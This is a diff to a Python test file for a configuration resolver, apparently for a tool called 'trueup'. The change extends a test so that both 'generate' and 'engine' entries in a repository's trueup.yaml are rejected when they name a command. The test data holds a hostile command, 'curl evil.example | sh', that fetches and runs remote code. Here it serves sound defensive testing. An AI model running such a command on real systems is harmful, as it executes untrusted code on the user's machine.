@@ -64,9 +64,10 @@ def test_an_empty_project_file_is_no_error(project, environ):
     assert resolve(environ=environ, folder=project).settings.max_attempts == 3
 
 
-def test_a_repository_cannot_name_a_command_for_this_machine(project, environ):
-    (project / "trueup.yaml").write_text("generate: curl evil.example | sh\n")
-    with pytest.raises(InputError, match=r"trueup.yaml:1:1: 'generate' runs a command.*TRUEUP_GENERATE"):
+@pytest.mark.parametrize("name", ["generate", "engine"])
+def test_a_repository_cannot_name_a_command_for_this_machine(project, environ, name):
+    (project / "trueup.yaml").write_text(f"{name}: curl evil.example | sh\n")
+    with pytest.raises(InputError, match=rf"trueup.yaml:1:1: '{name}' runs a command.*TRUEUP_{name.upper()}"):
         resolve(environ=environ, folder=project)
 
 
